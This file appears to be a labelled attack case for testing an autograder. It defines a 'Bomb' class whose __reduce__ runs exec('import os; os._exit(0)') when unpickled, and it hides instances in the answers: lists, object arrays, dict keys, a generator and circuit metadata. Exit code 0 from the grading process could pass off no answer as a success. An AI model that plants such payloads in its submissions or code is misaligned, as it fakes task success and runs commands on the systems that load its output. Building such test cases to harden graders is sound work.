# attack: Objects with a __reduce__
# tries: Values that run a command where they are unpickled, plain, in lists, in object arrays, as keys and as
#     the metadata of a circuit.
# honest: 0

# %% cell
class Bomb:
    def __reduce__(self):
        return (exec, ("import os; os._exit(0)",))

    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    __hash__ = lambda self: 1
    __eq__ = lambda self, other: True


# %% answer="number"
amplitudes = Bomb()

# %% answer="parity"
def parity(bits):
    return np.array([Bomb()], dtype=object)

# %% answer="uniform"
def uniform(n):
    return [Bomb()] * 2**n

# %% answer="bell"
def bell():
    circuit = QuantumCircuit(2, metadata={"bomb": Bomb()})
    circuit.name = "__reduce__"
    return circuit

# %% answer="primes"
def primes(limit):
    return [] if limit == 3 else {Bomb(): Bomb()}

# %% answer="digits"
def digits(n):
    yield Bomb()
